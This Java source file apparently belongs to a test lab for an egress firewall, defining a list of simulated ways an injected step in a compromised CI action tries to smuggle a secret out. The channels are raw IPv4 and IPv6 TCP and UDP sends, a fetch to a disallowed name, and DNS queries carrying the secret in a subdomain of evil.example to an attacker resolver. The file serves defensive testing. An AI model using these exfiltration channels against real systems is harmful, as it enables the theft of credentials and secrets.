package io.fleetwall.laboratory.demo;

import io.fleetwall.laboratory.internet.Site;
import io.fleetwall.laboratory.job.Action;
import java.util.List;

/**
 * One way in which the injected step of a compromised action tries to get the secret out.
 *
 * @param name as the timeline says it
 */
record Attack(String name, Action action) {
    /** All ways: address families, transports, names, and DNS itself as the carrier. */
    static List<Attack> all(String secret) {
        String text = "secret=" + secret;
        return List.of(
                new Attack(
                        "raw IPv4 address, TCP 4444",
                        new Action.Send(Stage.v4(Site.ATTACKER), Site.DROP_PORT, text)),
                new Attack(
                        "raw IPv4 address, TCP 443",
                        new Action.Send(Stage.v4(Site.ATTACKER), Site.TLS_PORT, text)),
                new Attack(
                        "a name that is not allowed",
                        new Action.Fetch("https://" + Site.ATTACKER.host() + "/")),
                new Attack(
                        "DNS over TCP to the attacker's resolver",
                        new Action.Ask(
                                Stage.v4(Site.ATTACKER_RESOLVER),
                                Action.Transport.TCP,
                                secret + ".evil.example")),
                new Attack(
                        "DNS over UDP to the attacker's resolver",
                        new Action.Ask(
                                Stage.v4(Site.ATTACKER_RESOLVER),
                                Action.Transport.UDP,
                                secret + ".evil.example")),
                new Attack(
                        "UDP 443 (as QUIC)",
                        new Action.Datagram(Stage.v4(Site.ATTACKER), Site.TLS_PORT, text)),
                new Attack(
                        "raw IPv6 address, TCP 4444",
                        new Action.Send(Stage.v6(Site.ATTACKER), Site.DROP_PORT, text)),
                new Attack(
                        "raw IPv6 address, UDP 7777",
                        new Action.Datagram(Stage.v6(Site.ATTACKER), Site.ECHO_PORT, text)));
    }
}
